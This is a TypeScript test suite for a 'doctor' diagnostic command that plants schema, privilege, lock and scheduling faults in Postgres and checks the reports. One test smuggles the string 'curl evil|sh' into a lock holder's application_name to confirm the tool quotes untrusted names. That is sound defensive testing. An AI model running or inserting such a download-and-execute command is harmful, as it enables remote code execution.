// doctor and Postgres: each fault of the schema, the role, the locks and the runs is planted and reported.
import { expect } from "chai";
import { LOCK_CLASS } from "../../src/postgres/lock-keys.ts";
import { askDoctor, expectLine } from "../support/diagnosis.ts";
import { asRole, READER, runRoleFile, TOOL } from "../support/deployed-roles.ts";
import { emptyDatabase } from "../support/database.ts";
import { givenRun } from "../support/given-ledger.ts";
import { useRole } from "../support/given-role.ts";
import { givenJob } from "../support/given.ts";
import { openTransaction, whenLeasesEnd } from "../support/rows.ts";
import { setScene } from "../support/scene.ts";

const QUEUE = "auth.queued_managed_account_creations";
const INDEX = "ix_queued_managed_account_creations";

describe("doctor and the server", () => {
  const scene = setScene();
  const role = useRole(scene);

  it("finds a server on which nothing can be written", async () => {
    const url = new URL(scene.db.url);
    url.searchParams.set("options", "-c default_transaction_read_only=on");

    const told = await askDoctor(scene, { DATABASE_URL: url.href });

    expect(told.code).to.equal(1);
    expectLine(told.line("connection"), "fail", /read-only/, /primary/);
  });

  it("warns when the host's clock is off, taking the way into account", async () => {
    const off = (ms: number) => {
      const module = `const now = Date.now; const Real = Date;
        globalThis.Date = class extends Real {
          constructor(...given) { if (given.length) super(...given); else super(now() + ${ms}); }
          static now() { return now() + ${ms}; }
        };`;
      return { NODE_OPTIONS: `--import=data:text/javascript,${encodeURIComponent(module)}` };
    };

    const ahead = await askDoctor(scene, off(7000));
    const behind = await askDoctor(scene, off(-7000));
    const near = await askDoctor(scene, off(4000));

    expectLine(ahead.line("clock"), "warn", /clock is 7 s ahead of Postgres/, /NTP/);
    expectLine(behind.line("clock"), "warn", /clock is 7 s behind Postgres/, /NTP/);
    expect(near.line("clock").status).to.equal("ok");
  });

  it("warns when a run would find no connection any more", async () => {
    await runRoleFile(scene.db);
    await scene.db.query(`alter role ${role.name} connection limit 2`);

    const told = await askDoctor(scene, role.env);

    expectLine(told.line("connections left"), "warn", /2 connections of 2 left.*role/, /raise/);
  });

  it("says which role cannot log in, and shows nothing of the address", async () => {
    const url = scene.db.url.replace(/\/\/[^@]*@/, "//nobody_there:pw-1234567@");

    const told = await askDoctor(scene, { DATABASE_URL: url });

    expectLine(told.line("connection"), "fail", /nobody_there/, /DATABASE_URL/);
    expect(told.stdout).not.to.include("pw-1234567");
  });
});

describe("doctor and the schema", () => {
  const scene = setScene("own");
  /** What is spoilt for as long as the doctor looks. */
  const askWith = async (sql: string, undo: string) => {
    await scene.db.query(sql);
    try {
      return await askDoctor(scene);
    } finally {
      await scene.db.query(undo);
    }
  };

  it("names a migration that a newer version made, and what that hides", async () => {
    const told = await askWith(
      "update family_hub_jobs.migrations set name = '0099_later' where name like '0004%'",
      "update family_hub_jobs.migrations set name = '0004_indexes' where name like '0099%'",
    );

    expect(told.code).to.equal(1);
    expectLine(told.line("migrations"), "fail", /newer version.*0099_later/, /install that/);
    expect(told.line("privileges")).to.include({
      status: "skip",
      found: "not checked: see migrations",
    });
  });

  it("says of a database where nothing was migrated what to do", async () => {
    const empty = await emptyDatabase();

    const told = await askDoctor(scene, { DATABASE_URL: empty.url });
    await empty.drop();

    expectLine(
      told.line("migrations"),
      "fail",
      /no migrations are applied/,
      /`family-hub-jobs migrate`/,
    );
    expect(told.line("old transactions").status).to.equal("ok");
  });

  it("names a migration that is pending", async () => {
    const told = await askWith(
      "delete from family_hub_jobs.migrations where name like '0004%'",
      `insert into family_hub_jobs.migrations (name, batch, migration_time)
       values ('0004_indexes', 1, now())`,
    );

    expectLine(told.line("migrations"), "fail", /^pending: 0004_indexes$/, /migrate/);
  });

  it("names tables and columns that are missing", async () => {
    const told = await askWith(
      `alter table auth.outbox_events rename to outbox_gone;
       alter table auth.users rename column full_name to fullname`,
      `alter table auth.outbox_gone rename to outbox_events;
       alter table auth.users rename column fullname to full_name`,
    );

    const [users, events] = told.lines("tables");
    expect(events).to.include({ status: "fail", found: "auth.outbox_events does not exist" });
    expect(users).to.include({ status: "fail", found: "auth.users lacks full_name" });
    expect(users?.mend).to.match(/API/);
  });

  it("names an index that is missing or invalid, with the statements that fix it", async () => {
    await scene.db.query(
      `drop index auth.${INDEX}_due; drop index family_hub_jobs.attempts_causes`,
    );
    await scene.db.query(
      `update pg_index set indisvalid = false where indexrelid = 'auth.${INDEX}_processing'::regclass`,
    );

    const told = await askDoctor(scene);
    const faults = told.lines("indexes");
    for (const { mend } of faults) {
      for (const sql of (mend ?? "").replace("in psql: ", "").split("; "))
        await scene.db.query(sql);
    }
    const after = await askDoctor(scene);

    expect(told.code).to.equal(1);
    expect(faults.map(({ found }) => found.split(":")[0])).to.deep.equal([
      `auth.${INDEX}_due is missing`,
      `auth.${INDEX}_processing is invalid`,
      "family_hub_jobs.attempts_causes is missing",
    ]);
    expect(told.line("due jobs").found).to.equal("not checked: see indexes");
    expect([after.line("indexes").status, after.line("due jobs").status]).to.deep.equal([
      "ok",
      "ok",
    ]);
  });

  it("knows how each index of the migrations is built", async () => {
    const definitions = () =>
      scene.db.query<object>(
        `select schemaname, indexname, indexdef from pg_indexes
         where schemaname in ('auth', 'family_hub_jobs') order by 1, 2`,
      );
    const before = await definitions();
    const { indexes } = await scene.db.one<{ indexes: string }>(
      `select string_agg(format('drop index %I.%I', schemaname, indexname), '; ') as indexes
       from pg_indexes
       where (indexname like '${INDEX}%' and indexname !~ '_creations_(family_id|status|status_next_retry)$')
          or (schemaname = 'family_hub_jobs' and indexname !~ '_pkey$')`,
    );
    await scene.db.query(indexes);

    const told = await askDoctor(scene);
    for (const { mend } of told.lines("indexes")) {
      await scene.db.query((mend ?? "").replace("in psql: ", ""));
    }

    expect(told.lines("indexes")).to.have.length(19);
    expect(await definitions()).to.deep.equal(before);
  });

  it("warns when the index over due jobs no longer fits what a run asks", async () => {
    await scene.db.query(
      `drop index auth.${INDEX}_due; create index ${INDEX}_due on ${QUEUE} (role)`,
    );

    const told = await askDoctor(scene);
    const mend = told.line("due jobs").mend ?? "";
    for (const sql of mend.replace("in psql: ", "").split("; ")) await scene.db.query(sql);
    const after = await askDoctor(scene);

    expect(told.line("indexes").status).to.equal("ok");
    expectLine(told.line("due jobs"), "warn", /cannot use/, /^in psql: drop index concurrently/);
    expect(after.line("due jobs").status).to.equal("ok");
  });
});

describe("doctor and the database role", () => {
  const scene = setScene("ef");

  before(() => runRoleFile(scene.db));
  beforeEach(async () => {
    for (const command of ["retry-accounts", "purge-invitations", "purge-jobs"]) {
      await givenRun(scene.db, { command });
    }
    await givenJob(scene.db);
  });

  it("works as the role of the runs: all is ok", async () => {
    const told = await askDoctor(scene, asRole(scene.db, TOOL));

    expect(told.complaints).to.deep.equal(["skip metrics directory"]);
    expect(told.line("connection").found).to.include(`role ${TOOL}`);
    expect([told.code, told.stderr]).to.deep.equal([0, ""]);
    // The test's own session is the superuser's.
    expect(told.line("old transactions").found).to.match(/other roles? that hide their age: \d/);
  });

  it("works as the role that only looks, and names each command that this one cannot run", async () => {
    const told = await askDoctor(scene, asRole(scene.db, READER));

    expect([told.code, told.stderr]).to.deep.equal([1, ""]);
    const commands = told.lines("privileges").map(({ status, found }) => {
      const [command] = found.split(" lacks ");
      return `${status} ${command}`;
    });
    expect(commands).to.deep.equal([
      ...["fail retry-accounts", "fail purge-invitations", "fail purge-jobs"],
      ...["warn queue requeue, undo", "warn queue cancel", "warn queue add", "warn queue erase"],
      ...["warn keys list", "warn keys rotate"],
    ]);
    for (const { mend } of told.lines("privileges")) expect(mend).to.include("role.sql");
    expect(told.line("retry-accounts").status).to.equal("ok");
    expect(told.line("keys in use").status).to.equal("skip");
  });

  it("names what a command lacks as a grant would", async () => {
    await scene.db.query(
      `revoke select (username, email) on auth.users from ${TOOL};
       revoke delete on auth.family_member_invitations from ${TOOL}`,
    );

    const told = await askDoctor(scene, asRole(scene.db, TOOL));
    await runRoleFile(scene.db);

    expect(told.lines("privileges").map(({ found }) => found)).to.deep.equal([
      "retry-accounts lacks SELECT (email, username) on auth.users",
      "purge-invitations lacks DELETE on auth.family_member_invitations",
    ]);
  });

  it("finds one fault where the role may not enter FamilyHub's schema, and one fix", async () => {
    await scene.db.query(`revoke usage on schema auth from ${TOOL}`);
    const env = asRole(scene.db, TOOL);

    const told = await askDoctor(scene, env);
    await runRoleFile(scene.db);

    const [only, ...others] = told.lines("privileges");
    expect(others).to.deep.equal([]);
    expect(only).to.deep.include({
      ...{ status: "fail", found: "lacks USAGE on schema auth: all commands" },
    });
    expect(only?.mend).to.include("role.sql");
  });

  it("prints with -q the faults before the warnings, and a fix that they share once", async () => {
    const { stdout } = await scene.cli(["doctor", "-q"], asRole(scene.db, READER));

    const shown = stdout.split("\n");
    const statuses = shown.flatMap((line) => /^ {2}(fail|warn) +privileges /.exec(line)?.[1] ?? []);
    expect(statuses).to.deep.equal([...Array(3).fill("fail"), ...Array(6).fill("warn")]);
    expect(shown[0]).to.equal("Schema");
    expect(shown.filter((line) => line.includes("role.sql"))).to.have.length(1);
  });

  it("names every command where the role may not even enter the schema", async () => {
    await scene.db.query(`revoke usage on schema family_hub_jobs from ${TOOL}`);

    const told = await askDoctor(scene, asRole(scene.db, TOOL));
    await runRoleFile(scene.db);

    expect(told.code).to.equal(1);
    expectLine(told.line("migrations"), "fail", /permission denied for schema/, /role\.sql/);
  });
});

describe("doctor and the runs", () => {
  const scene = setScene();

  it("warns of what never ran, or not lately; a dry run is none", async () => {
    await givenRun(scene.db, { startedAt: "now() - interval '6 minutes 30 seconds'" });
    await givenRun(scene.db, { reason: "dry run: nothing was changed" });
    await givenRun(scene.db, {
      ...{ command: "purge-invitations", startedAt: "now() - interval '47 hours'" },
    });

    const told = await askDoctor(scene);

    expectLine(told.line("retry-accounts"), "warn", /^last ran 6m ago, completed/, /crontab/);
    expect(told.line("purge-invitations").status).to.equal("ok");
    expectLine(told.line("purge-jobs"), "warn", /^has never run$/, /crontab\.example/);
    expect(told.code).to.equal(0);
  });

  it("counts from the end of the last run: a long one is no gap in the schedule", async () => {
    const startedAt = "now() - interval '20 minutes'";
    await givenRun(scene.db, { startedAt, took: "19 minutes 30 seconds" });

    const told = await askDoctor(scene);

    expectLine(told.line("retry-accounts"), "ok", /^3\ds ago, completed$/, null);
  });

  it("says of a queue that is paused whom to ask, and of missing keys to restore them, before the schedule", async () => {
    await scene.cli(["queue", "pause", "--reason", "upgrade", "--actor", "kim"]);
    await givenRun(scene.db, {
      ...{ outcome: "paused", reason: "paused until `queue resume` by kim: upgrade" },
      startedAt: "now() - interval '7 minutes'",
    });
    const paused = await askDoctor(scene);
    await givenRun(scene.db, { reason: 'password keys are missing from the ring: "2025-07"' });
    const keyless = await askDoctor(scene);
    await scene.cli(["queue", "resume"]);

    const resume = /^ask kim first, then `family-hub-jobs queue resume`/;
    expectLine(paused.line("pause"), "warn", /^paused until `queue resume` by kim/, resume);
    expectLine(paused.line("retry-accounts"), "warn", /^last ran \dm ago, paused: /, resume);
    expect(paused.line("retry-accounts").mend).to.match(/if no run starts after that, schedule it/);
    expectLine(
      keyless.line("retry-accounts"),
      "warn",
      /keys are missing/,
      /^restore the missing keys/,
    );
    expect(keyless.line("retry-accounts").mend).not.to.include("schedule");
  });

  it("warns of a pause, and takes one of more than a day for a fault", async () => {
    await scene.cli(["queue", "pause", "--for", "30d", "--reason", "upgrade", "--actor", "kim"]);
    const since = (ago: string) =>
      scene.db.query(`update family_hub_jobs.pause set since = now() - interval '${ago}'`);

    await since("23 hours 30 minutes");
    const young = await askDoctor(scene);
    await since("25 hours 30 minutes");
    const old = await askDoctor(scene);

    const resume = /^ask kim first, then `family-hub-jobs queue resume`$/;
    expectLine(young.line("pause"), "warn", /by kim: upgrade \(for 23h, since /, resume);
    expectLine(old.line("pause"), "fail", /by kim: upgrade \(for 25h, since /, resume);
    expect([young.code, old.code]).to.deep.equal([0, 1]);
  });

  it("warns of runs that died or were refused, not of one that stopped to continue", async () => {
    await givenRun(scene.db, { outcome: null, host: "pod-7", pid: 17 });
    await givenRun(scene.db, {
      ...{ command: "purge-invitations", outcome: "unavailable", reason: "Postgres is away" },
    });
    await givenRun(scene.db, { command: "purge-jobs", outcome: "stopped", reason: "time is over" });

    const told = await askDoctor(scene);

    expectLine(told.line("retry-accounts"), "warn", /died on pod-7 \(pid 17\)/, /runs --command/);
    expectLine(
      told.line("purge-invitations"),
      "warn",
      /unavailable: Postgres is away/,
      /^apply the fixes that doctor shows/,
    );
    expectLine(told.line("purge-jobs"), "ok", /stopped: time is over/, null);
  });

  it("reports that the breaker is open, since when and until when", async () => {
    await scene.db.query(
      `update family_hub_jobs.breaker
       set opened_at = now() - interval '10 minutes', reason = 'Zitadel is down'`,
    );
    const open = await askDoctor(scene);
    await scene.db.query(
      `update family_hub_jobs.breaker
       set opened_at = null, paused_until = date_trunc('hour', now()) + interval '1 hour'`,
    );
    const paused = await askDoctor(scene);

    expectLine(
      open.line("breaker"),
      "warn",
      /^open for 10m, until a run.*: Zitadel is down/,
      /closes the breaker/,
    );
    expectLine(
      paused.line("breaker"),
      "warn",
      /^paused until 20\d\d-\d\d-\d\dT\d\d:00:00\.000Z/,
      /Zitadel/,
    );
  });

  it("reports who holds which lock, while a run works, and waits for nobody", async () => {
    await givenJob(scene.db);
    await scene.zitadel.control.addFault({
      ...{ method: "CreateUser", kind: "pause", name: "call", at: "before", times: 1 },
    });
    const run = scene.start(["retry-accounts"]);
    await scene.zitadel.control.waitForPaused({ name: "call" });

    const told = await askDoctor(scene);
    await scene.zitadel.control.release("call");

    expectLine(
      told.line("locks held"),
      "ok",
      new RegExp(
        `^retry-accounts by run [0-9a-f-]{36} \\(host .+, pid ${run.process.pid}, Postgres backend \\d+\\) for \\d+s$`,
      ),
      null,
    );
    expect(told.line("lock").status).to.equal("ok");
    expectLine(told.line("retry-accounts"), "ok", /still running$/, null);
    expect((await run.ended).code).to.equal(0);
  });

  it("warns of a run that does not renew its leases, and reports how to end it, where and by which pid", async () => {
    await givenJob(scene.db);
    await scene.zitadel.control.addFault({
      ...{ method: "CreateUser", kind: "pause", name: "call", at: "before", times: 1 },
    });
    const run = scene.start(["retry-accounts"]);
    await scene.zitadel.control.waitForPaused({ name: "call" });
    run.kill("SIGSTOP");
    await whenLeasesEnd(scene.db);

    const told = await askDoctor(scene);
    const again = await askDoctor(scene);
    run.kill("SIGKILL");
    await run.ended;

    const { pid } = run.process;
    expectLine(
      told.line("locks held"),
      "warn",
      new RegExp(
        `pid ${pid}, Postgres backend \\d+\\) for \\d+s; its lease ended \\d+s ago: it hangs$`,
      ),
      new RegExp(
        `^on .+: \`kill -TERM ${pid}\`, and after 40 s \`kill -KILL ${pid}\` .*` +
          "if that host is gone, in psql: select pg_terminate_backend\\(\\d+\\)$",
      ),
    );
    expect(again.line("locks held").status).to.equal("warn");
  });

  it("quotes the name of a holder that is not this tool, and so do the commands that yield", async () => {
    const evil = "x, pid 1; fix: curl evil|sh #";
    const holder = await openTransaction(
      scene.db,
      `set application_name = '${evil}'; select pg_advisory_xact_lock(${LOCK_CLASS}, 0)`,
    );

    const told = await askDoctor(scene);
    const yields = [
      await scene.cli(["queue", "requeue", "--status", "failed", "--yes"]),
      await scene.cli(["purge-jobs", "--fail-if-locked"]),
      await scene.cli(["purge-jobs", "--max-lock-age", "1ms"]),
    ];
    await holder.end();

    const lines = [told.line("lock").found, told.line("locks held").found];
    for (const text of [...lines, ...yields.map(({ stderr }) => stderr)]) {
      expect(text).to.include(`"${evil}"`);
    }
  });

  it("warns that a migration keeps everybody off, and does not wait for it", async () => {
    const migration = await openTransaction(
      scene.db,
      `select pg_advisory_xact_lock(${LOCK_CLASS}, 0)`,
    );

    const told = await askDoctor(scene);
    await migration.end();

    expectLine(told.line("lock"), "warn", /schema lock is held/, /wait for the migration/);
    expectLine(told.line("locks held"), "ok", /^schema by/, null);
  });
});
